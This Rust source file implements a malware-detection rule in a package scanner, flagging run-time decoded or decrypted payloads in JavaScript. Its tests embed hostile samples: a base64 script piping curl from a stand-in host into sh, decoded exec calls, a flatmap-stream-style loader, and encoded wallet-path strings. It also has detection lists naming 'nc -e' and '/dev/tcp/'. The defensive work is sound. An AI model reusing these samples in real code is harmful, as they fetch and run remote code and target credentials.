//! `encoded-payload`: strings decoded at run time (base64, hex, char codes, reversed) that are
//! executed, written out, or are themselves code, commands or URLs; encrypted payloads
//! decrypted and evaluated (flatmap-stream).

use palisade_core::{Capability, Confidence, Finding, Severity};

use super::sinks::{self, value_decoded};
use super::{FileRule, RuleInfo};
use crate::facts::{Call, FileFacts, Value};

pub struct EncodedPayload;

static INFO: RuleInfo = RuleInfo {
    id: "encoded-payload",
    severity: Severity::High,
    confidence: Confidence::High,
    capabilities: &[Capability::Obfuscation],
    summary: "Decodes or decrypts a hidden payload at run time and executes it, writes it out, or hides code, commands or URLs",
    docs: r#"## What it detects

The analyzer folds `Buffer.from(s, 'base64'|'hex').toString()`, `atob`, `String.fromCharCode`,
`decodeURIComponent`, `.split('').reverse().join('')` and their layers; a folded value that went
through a decoder is *decoded*. This rule reports:

- **critical**: a decoded string passed to `eval`, `Function`, `vm`, `module._compile`,
  `require`/`import` or a process-execution call; an AES/`crypto.createDecipher(iv)` decryption
  of embedded data in a file that evaluates code (the flatmap-stream loader);
- **high**: a decoded string written to a file or sent to a decoded network address; a decoded
  string that is itself JavaScript, a shell command, or a URL handed to a network call; a
  decryption of data in a file that evaluates code;
- **moderate**: a decoded URL or host anywhere in the file; a long (≥ 1 KB) base64/hex blob
  decoded at run time whose content is text, not a WebAssembly module or image.

## Real attacks

- event-stream / flatmap-stream 0.1.1 (2018): two AES-256 encrypted payloads decrypted with the
  consumer's package description and run with `module._compile`, targeting the Copay wallet.
- Typosquats of discord.js, electron and colors (2020–2024) carrying `eval(atob('…'))` and
  multi-layer base64 stealers; "hex-encoded" install scripts decoded with
  `Buffer.from(h, 'hex')` and passed to `child_process.exec`.
- Droppers that write a base64-embedded executable or script to a temporary directory and run it.

## Known false positives

Packages embed WebAssembly, fonts and images as base64 and decode them at startup: binary
content is ignored. Decoded strings that are plain text (error messages, locale data) are not
reported.
"#,
};

impl FileRule for EncodedPayload {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn check(&self, file: &FileFacts, out: &mut Vec<Finding>) {
        let push =
            |out: &mut Vec<Finding>, line: u32, severity, confidence, message: String, evidence: Option<&str>| {
                out.push(sinks::finding(
                    &INFO, file, line, severity, confidence, message, evidence,
                ));
            };
        let reported = |out: &[Finding], line: u32| out.iter().any(|f| f.rule == INFO.id && f.line == Some(line));

        // Decoded strings reaching a sink.
        for call in &file.calls {
            let decoded_args: Vec<&Value> = call.args.iter().filter(|a| value_decoded(a)).collect();
            if decoded_args.is_empty() {
                continue;
            }
            let evidence = sinks::call_evidence(file, call);
            let callee = sinks::normalize(&call.callee);
            let preview = decoded_args
                .iter()
                .find_map(|a| a.as_str())
                .map(preview)
                .unwrap_or_default();
            if sinks::is_eval(call) || sinks::is_exec_call(call) || matches!(callee, "require" | "import") {
                push(
                    out,
                    call.line,
                    Severity::Critical,
                    Confidence::High,
                    format!("Decodes a hidden string at run time and executes it with {callee}: `{preview}`"),
                    Some(&evidence),
                );
            } else if is_file_write(callee) && call.args.iter().skip(1).any(value_decoded) {
                let target = call.args.first().and_then(Value::as_str).unwrap_or("");
                let runnable = is_runnable_path(target)
                    || decoded_args
                        .iter()
                        .filter_map(|a| a.as_str())
                        .any(|s| looks_like_code(s) || looks_like_command(s));
                push(
                    out,
                    call.line,
                    if runnable { Severity::Critical } else { Severity::High },
                    Confidence::High,
                    format!(
                        "Writes a decoded payload to {}",
                        if target.is_empty() {
                            "a file".to_string()
                        } else {
                            format!("`{}`", preview_of(target, 80))
                        }
                    ),
                    Some(&evidence),
                );
            } else if sinks::is_network_call(call) {
                push(
                    out,
                    call.line,
                    Severity::High,
                    Confidence::High,
                    format!("Talks to a network address hidden by encoding: `{preview}`"),
                    Some(&evidence),
                );
            }
        }

        // Decoded strings that are code, commands or URLs (not already reported at their sink).
        let mut reported_constants = 0;
        for constant in file.strings.iter().filter(|s| s.decoded) {
            if reported(out, constant.line) || reported_constants >= 3 {
                continue;
            }
            let value = constant.value.as_str();
            let (severity, what) = if looks_like_command(value) {
                (Severity::High, "a shell command")
            } else if looks_like_code(value) {
                (Severity::High, "JavaScript code")
            } else if !sinks::url_hosts(value).is_empty() {
                (Severity::Moderate, "a URL")
            } else {
                continue;
            };
            reported_constants += 1;
            push(
                out,
                constant.line,
                severity,
                Confidence::Medium,
                format!(
                    "Hides {what} behind encoding, decoded at run time: `{}`",
                    preview(value)
                ),
                None,
            );
        }

        // Encrypted payloads evaluated: createDecipher(iv) + eval/_compile in the same file.
        let evaluates = file.calls.iter().any(sinks::is_eval);
        if let Some(decipher) = file.calls.iter().find(|c| {
            matches!(
                sinks::normalize(&c.callee),
                "crypto.createDecipheriv" | "crypto.createDecipher"
            )
        }) {
            // Small files only: big bundles carry unrelated crypto (TLS, JWE) and evaluators.
            if evaluates && file.metrics.bytes.max(file.size as usize) < 200_000 {
                let embedded =
                    file.metrics.long_encoded_strings > 0 || file.strings.iter().any(|s| is_long_encoded(&s.value));
                push(
                    out,
                    decipher.line,
                    if embedded { Severity::Critical } else { Severity::High },
                    Confidence::High,
                    format!(
                        "Decrypts {} and evaluates code in the same file: the shape of the flatmap-stream loader",
                        if embedded { "embedded encoded data" } else { "data" }
                    ),
                    Some(&sinks::call_evidence(file, decipher)),
                );
            }
        }

        // String-decoder helpers: a local function applied to encoded literals (BeaverTail's
        // `f('ZXhpc3RzU3luYw')`, flatmap-stream's `e('2e2f746573742f64617461')`).
        check_decoder_helpers(file, out);

        // A fresh module object in a file that decodes or decrypts at run time: the loader
        // compiles what it decoded (flatmap-stream: `new module.constructor` + `_compile`).
        if !out
            .iter()
            .any(|f| f.rule == INFO.id && f.severity == Severity::Critical)
        {
            // Bundlers' own module systems create modules and decode source maps and assets.
            let runtime_decoding = !sinks::is_bundle(file) && file.calls.iter().any(is_runtime_decoder);
            if let Some(call) = file.calls.iter().find(|c| {
                c.is_new
                    && matches!(
                        sinks::normalize(&c.callee),
                        "module.constructor" | "Module" | "module.Module"
                    )
            }) {
                if runtime_decoding {
                    push(
                        out,
                        call.line,
                        Severity::Critical,
                        Confidence::High,
                        "Creates a fresh module in a file that decodes or decrypts data at run time: a loader that compiles a hidden payload (flatmap-stream)".to_string(),
                        Some(&sinks::call_evidence(file, call)),
                    );
                }
            }
        }

        // Long encoded blobs decoded at run time whose content is text.
        if let Some(call) = file.calls.iter().find(|c| decodes_long_text_blob(c)) {
            if !reported(out, call.line) {
                push(
                    out,
                    call.line,
                    Severity::Moderate,
                    Confidence::Low,
                    "Decodes a long embedded base64/hex blob of text at run time".to_string(),
                    Some(&sinks::call_evidence(file, call)),
                );
            }
        }
    }
}

fn preview(value: &str) -> String {
    preview_of(value, 80)
}

fn preview_of(value: &str, max: usize) -> String {
    palisade_core::bounded_excerpt(value, max)
}

fn is_file_write(callee: &str) -> bool {
    let Some((module, method)) = callee.rsplit_once('.') else {
        return false;
    };
    matches!(
        module,
        "fs" | "fs.promises" | "fs/promises" | "fs-extra" | "graceful-fs"
    ) && matches!(
        method,
        "writeFile" | "writeFileSync" | "appendFile" | "appendFileSync" | "outputFile" | "outputFileSync"
    )
}

fn is_runnable_path(path: &str) -> bool {
    let lower = path.to_ascii_lowercase();
    [
        ".js", ".cjs", ".mjs", ".sh", ".exe", ".dll", ".ps1", ".bat", ".cmd", ".vbs", ".py", ".node", ".so", ".dylib",
    ]
    .iter()
    .any(|ext| lower.ends_with(ext))
}

/// JavaScript that does something: module loading, process or code execution, network.
pub fn looks_like_code(value: &str) -> bool {
    let markers = [
        "require(",
        "child_process",
        "eval(",
        "new Function",
        "process.env",
        "import(",
        "module.exports",
        "XMLHttpRequest",
        "fetch(",
        "https.get",
        "http.request",
        ".exec(",
    ];
    let hits = markers.iter().filter(|m| value.contains(*m)).count();
    hits >= 1
        && (value.contains('(') && (value.contains(';') || value.contains("=>") || value.contains("function"))
            || hits >= 2)
}

/// A shell command line: downloads, pipes to shells, or common recon/exfil programs.
pub fn looks_like_command(value: &str) -> bool {
    if sinks::is_download_command(value) {
        return true;
    }
    let lower = value.trim_start().to_ascii_lowercase();
    let first = lower.split_whitespace().next().unwrap_or("");
    let shells = [
        "sh",
        "bash",
        "/bin/sh",
        "/bin/bash",
        "cmd",
        "cmd.exe",
        "powershell",
        "powershell.exe",
        "pwsh",
    ];
    (shells.contains(&first) && lower.split_whitespace().count() >= 2)
        || [
            "| sh",
            "| bash",
            "|sh",
            "|bash",
            "&& chmod",
            "nc -e",
            "/dev/tcp/",
            "rm -rf ",
        ]
        .iter()
        .any(|m| lower.contains(m))
}

fn is_long_encoded(value: &str) -> bool {
    value.len() >= 1000
        && value
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_' | b'\n'))
}

/// `Buffer.from(<≥1 KB literal>, 'base64'|'hex')` or `atob(<≥1 KB literal>)` whose decoded bytes
/// are mostly printable text (WebAssembly, images and fonts are binary).
fn decodes_long_text_blob(call: &Call) -> bool {
    let callee = sinks::normalize(&call.callee);
    let encoding = match callee {
        "atob" => "base64",
        "Buffer.from" | "Buffer" => match call.args.get(1).and_then(Value::as_str) {
            Some(encoding @ ("base64" | "hex" | "base64url")) => encoding,
            _ => return false,
        },
        _ => return false,
    };
    let Some(blob) = call.args.first().and_then(Value::as_str) else {
        return false;
    };
    if !is_long_encoded(blob) {
        return false;
    }
    let sample = &blob[..blob.len().min(4096)];
    let sample = &sample[..sample.len() - sample.len() % 4];
    let bytes = if encoding == "hex" {
        decode_hex(sample)
    } else {
        decode_base64(sample)
    };
    if bytes.len() < 64 || bytes.starts_with(b"\0asm") {
        return false;
    }
    let printable = bytes
        .iter()
        .filter(|b| b.is_ascii_graphic() || b.is_ascii_whitespace())
        .count();
    printable * 100 >= bytes.len() * 95
}

/// Decoding of a non-literal at run time: `Buffer.from(x, 'hex'|'base64')`, `atob(x)`, deciphers.
fn is_runtime_decoder(call: &Call) -> bool {
    let literal = matches!(call.args.first(), Some(Value::Str { .. }));
    match sinks::normalize(&call.callee) {
        "Buffer.from" => {
            !literal
                && matches!(
                    call.args.get(1).and_then(Value::as_str),
                    Some("hex" | "base64" | "base64url")
                )
        }
        "atob" => !literal,
        "crypto.createDecipheriv" | "crypto.createDecipher" => true,
        _ => false,
    }
}

/// The text behind a hex or (unpadded) base64 literal, when it is all printable ASCII.
fn decode_literal(literal: &str) -> Option<String> {
    if literal.len() < 6 || literal.len() > 4096 {
        return None;
    }
    let bytes = if literal.len() % 2 == 0 && literal.bytes().all(|b| b.is_ascii_hexdigit()) {
        decode_hex(literal)
    } else if literal
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_'))
    {
        let trimmed = literal.trim_end_matches('=');
        let mut padded = trimmed.to_string();
        while padded.len() % 4 != 0 {
            padded.push('=');
        }
        let mut bytes = decode_base64(&padded);
        // The last group of an unpadded literal decodes to fewer bytes.
        bytes.truncate(trimmed.len() * 3 / 4);
        bytes
    } else {
        return None;
    };
    let text = String::from_utf8(bytes).ok()?;
    let printable = text.len() >= 3
        && text.bytes().all(|b| (0x20..0x7f).contains(&b))
        && text.bytes().any(|b| b.is_ascii_alphabetic());
    printable.then_some(text)
}

/// Local functions (bare callees) called with encoded literals that decode to text.
fn check_decoder_helpers(file: &FileFacts, out: &mut Vec<Finding>) {
    struct Helper<'a> {
        name: &'a str,
        line: u32,
        examples: Vec<(&'a str, String)>,
    }
    let mut helpers: Vec<Helper<'_>> = Vec::new();
    for call in &file.calls {
        let name = call.callee.trim_start_matches('?');
        if name.is_empty() || name.contains('.') || call.is_new || call.args.len() != 1 {
            continue;
        }
        let Some(Value::Str { value, decoded: false }) = call.args.first() else {
            continue;
        };
        let Some(text) = decode_literal(value) else {
            continue;
        };
        if let Some(helper) = helpers.iter_mut().find(|h| h.name == name) {
            if helper.examples.len() < 64 && !helper.examples.iter().any(|(l, _)| *l == value.as_str()) {
                helper.examples.push((value.as_str(), text));
            }
        } else if helpers.len() < 16 {
            helpers.push(Helper {
                name,
                line: call.line,
                examples: vec![(value.as_str(), text)],
            });
        }
    }
    for helper in helpers {
        let callee_is_helper =
            |v: &Value| matches!(v, Value::CallResult { callee } if callee.trim_start_matches('?') == helper.name);
        let executes = file.calls.iter().find(|c| {
            let callee = sinks::normalize(&c.callee);
            (matches!(callee, "require" | "import") || sinks::is_eval(c) || sinks::is_exec_call(c))
                && c.args.first().is_some_and(callee_is_helper)
        });
        let sensitive: Vec<&str> = helper
            .examples
            .iter()
            .filter(|(_, text)| {
                !sinks::credential_kinds(text).is_empty()
                    || looks_like_code(text)
                    || looks_like_command(text)
                    || !sinks::url_hosts(text).is_empty()
                    || [
                        "child_process",
                        "exec",
                        "spawn",
                        "eval",
                        "https",
                        "request",
                        "homedir",
                        ".npmrc",
                        "wallet",
                        "solana",
                    ]
                    .iter()
                    .any(|m| text.contains(m))
            })
            .map(|(_, text)| text.as_str())
            .collect();
        let shown: Vec<String> = helper
            .examples
            .iter()
            .take(3)
            .map(|(literal, text)| format!("`{}` → `{}`", preview_of(literal, 24), preview_of(text, 40)))
            .collect();
        let (severity, line, message, evidence) = if let Some(call) = executes {
            (
                Severity::Critical,
                call.line,
                format!(
                    "Loads or runs what the local decoder `{}` returns ({}): code hidden behind encoded literals",
                    helper.name,
                    shown.join(", ")
                ),
                sinks::call_evidence(file, call),
            )
        } else if helper.examples.len() >= 3 {
            let severity = if sensitive.is_empty() {
                Severity::High
            } else {
                Severity::Critical
            };
            let what = if sensitive.is_empty() {
                String::new()
            } else {
                format!(
                    ", among them {}",
                    sensitive
                        .iter()
                        .take(3)
                        .map(|t| format!("`{}`", preview_of(t, 40)))
                        .collect::<Vec<_>>()
                        .join(", ")
                )
            };
            (
                severity,
                helper.line,
                format!(
                    "Hides {} strings behind the decoder function `{}` ({}){what}",
                    helper.examples.len(),
                    helper.name,
                    shown.join(", ")
                ),
                file.line_text(helper.line).unwrap_or_default(),
            )
        } else {
            continue;
        };
        out.push(sinks::finding(
            &INFO,
            file,
            line,
            severity,
            Confidence::High,
            message,
            Some(&evidence),
        ));
    }
}

fn decode_hex(text: &str) -> Vec<u8> {
    text.as_bytes()
        .chunks_exact(2)
        .filter_map(|pair| {
            std::str::from_utf8(pair)
                .ok()
                .and_then(|s| u8::from_str_radix(s, 16).ok())
        })
        .collect()
}

fn decode_base64(text: &str) -> Vec<u8> {
    let value = |c: u8| -> Option<u32> {
        Some(match c {
            b'A'..=b'Z' => u32::from(c - b'A'),
            b'a'..=b'z' => u32::from(c - b'a') + 26,
            b'0'..=b'9' => u32::from(c - b'0') + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            _ => return None,
        })
    };
    let mut out = Vec::with_capacity(text.len() * 3 / 4);
    for chunk in text.as_bytes().chunks_exact(4) {
        let mut acc = 0u32;
        let mut valid = 0usize;
        for &c in chunk {
            if let Some(v) = value(c) {
                acc = (acc << 6) | v;
                valid += 1;
            } else {
                acc <<= 6;
            }
        }
        let bytes = [(acc >> 16) as u8, (acc >> 8) as u8, acc as u8];
        out.extend_from_slice(&bytes[..valid.saturating_sub(1).min(3)]);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::facts;

    fn run(source: &str) -> Vec<Finding> {
        let file = facts::extract("index.js", source.as_bytes(), 0o644);
        let mut out = Vec::new();
        EncodedPayload.check(&file, &mut out);
        out
    }

    fn worst(source: &str) -> Severity {
        run(source)
            .iter()
            .map(|f| f.severity)
            .max()
            .unwrap_or(Severity::Unknown)
    }

    fn b64(text: &str) -> String {
        const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut out = String::new();
        for chunk in text.as_bytes().chunks(3) {
            let b = [chunk[0], *chunk.get(1).unwrap_or(&0), *chunk.get(2).unwrap_or(&0)];
            let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
            for i in 0..4 {
                if i <= chunk.len() {
                    out.push(ALPHABET[((n >> (18 - 6 * i)) & 63) as usize] as char);
                } else {
                    out.push('=');
                }
            }
        }
        out
    }

    #[test]
    fn base64_helper_round_trips() {
        assert_eq!(decode_base64(&b64("hello world!")), b"hello world!");
        assert_eq!(decode_hex("414243"), b"ABC");
    }

    #[test]
    fn plain_strings_are_quiet() {
        assert!(run("const msg = 'hello';\nconsole.log(Buffer.from('aGVsbG8=', 'base64').toString());").is_empty());
    }

    #[test]
    fn decoded_string_executed_is_critical() {
        let payload = b64("require('child_process').exec('id')");
        let findings = run(&format!("const s = '{payload}';\neval(atob(s));"));
        assert!(
            findings
                .iter()
                .any(|f| f.severity == Severity::Critical && f.line == Some(2)),
            "{findings:?}"
        );
    }

    #[test]
    fn decoded_module_name_required_is_critical() {
        assert_eq!(
            worst("const cp = require(Buffer.from('6368696c645f70726f63657373', 'hex').toString());"),
            Severity::Critical
        );
    }

    #[test]
    fn char_code_command_executed_is_critical() {
        // "whoami"
        let source = "const { execSync } = require('child_process');\nexecSync(String.fromCharCode(119, 104, 111, 97, 109, 105));";
        assert_eq!(worst(source), Severity::Critical);
    }

    #[test]
    fn decoded_script_written_to_disk_is_critical() {
        let payload = b64("#!/bin/sh\ncurl -s http://payload.example.invalid/a | sh\n");
        let source = format!(
            "const fs = require('fs');\nfs.writeFileSync('/tmp/.x.sh', Buffer.from('{payload}', 'base64').toString());"
        );
        assert_eq!(worst(&source), Severity::Critical);
    }

    #[test]
    fn decoded_url_is_moderate() {
        let url = b64("https://collector.example.invalid/c");
        assert_eq!(
            worst(&format!("const u = atob('{url}');\nmodule.exports = u;")),
            Severity::Moderate
        );
    }

    #[test]
    fn decipher_and_compile_is_critical() {
        let blob = "ab12".repeat(300);
        let source = format!(
            "const crypto = require('crypto');\nconst data = '{blob}';\nmodule.exports = function (key) {{\n  const d = crypto.createDecipher('aes256', key);\n  let out = d.update(data, 'hex', 'utf8') + d.final('utf8');\n  const m = new module.constructor();\n  m._compile(out, '');\n}};"
        );
        assert_eq!(worst(&source), Severity::Critical);
    }

    #[test]
    fn decoder_helper_feeding_require_is_critical() {
        let source = "!function(){var r=require;function e(x){return Buffer.from(x,'hex').toString()}var n=r(e('2e2f746573742f64617461'));var f=new module.constructor;f.paths=module.paths;}();";
        let findings = run(source);
        assert!(
            findings
                .iter()
                .any(|f| f.severity == Severity::Critical && f.message.contains("`e`")),
            "{findings:?}"
        );
    }

    #[test]
    fn decoder_helper_hiding_credential_paths_is_critical() {
        let names = [
            "ZXhpc3RzU3luYw",
            "cmVhZGRpclN5bmM",
            "TG9jYWwgRXh0ZW5zaW9uIFNldHRpbmdz",
            "Ly5jb25maWcvc29sYW5hL2lkLmpzb24",
        ];
        let calls = names.iter().map(|n| format!("f('{n}');")).collect::<String>();
        let source = format!("const f = (t) => Buffer.from(t, 'base64').toString('utf8');\n{calls}");
        let findings = run(&source);
        assert!(
            findings
                .iter()
                .any(|f| f.severity == Severity::Critical && f.message.contains("Local Extension Settings")),
            "{findings:?}"
        );
    }

    #[test]
    fn decoder_helper_with_plain_names_is_high_and_ordinary_calls_quiet() {
        let source = "const d = (t) => atob(t);\nd('aGVsbG8gd29ybGQ=');\nd('Z29vZGJ5ZQ==');\nd('dGhhbmsgeW91');";
        assert_eq!(worst(source), Severity::High);
        let plain = "t('userName'); t('password1'); t('deadbeef'); t('ffffff'); t('Settings'); t('abcdef012345');";
        assert!(run(plain).is_empty(), "{:?}", run(plain));
    }

    #[test]
    fn decoded_literals_must_be_text() {
        assert_eq!(decode_literal("ZXhpc3RzU3luYw").as_deref(), Some("existsSync"));
        assert_eq!(decode_literal("2e2f746573742f64617461").as_deref(), Some("./test/data"));
        assert_eq!(decode_literal("userName"), None);
        assert_eq!(decode_literal("deadbeef"), None);
    }

    #[test]
    fn decipher_without_eval_is_quiet() {
        let source = "const crypto = require('crypto');\nmodule.exports = (k, iv, d) => crypto.createDecipheriv('aes-256-cbc', k, iv).update(d);";
        assert!(run(source).is_empty());
    }

    #[test]
    fn long_text_blob_is_moderate_but_wasm_is_quiet() {
        let text_blob = b64(&"console.log('x');".repeat(100));
        assert_eq!(
            worst(&format!("const s = Buffer.from('{text_blob}', 'base64');")),
            Severity::Moderate
        );
        let mut wasm = vec![0u8, b'a', b's', b'm', 1, 0, 0, 0];
        wasm.extend((0..1200u32).map(|i| (i * 7 % 256) as u8));
        let wasm_b64: String = {
            // encode bytes (not text) through the same helper by mapping to chars losslessly
            const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
            wasm.chunks(3)
                .flat_map(|c| {
                    let b = [c[0], *c.get(1).unwrap_or(&0), *c.get(2).unwrap_or(&0)];
                    let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
                    (0..4).map(move |i| {
                        if i <= c.len() {
                            ALPHABET[((n >> (18 - 6 * i)) & 63) as usize] as char
                        } else {
                            '='
                        }
                    })
                })
                .collect()
        };
        assert!(run(&format!("const bytes = Buffer.from('{wasm_b64}', 'base64');")).is_empty());
    }
}
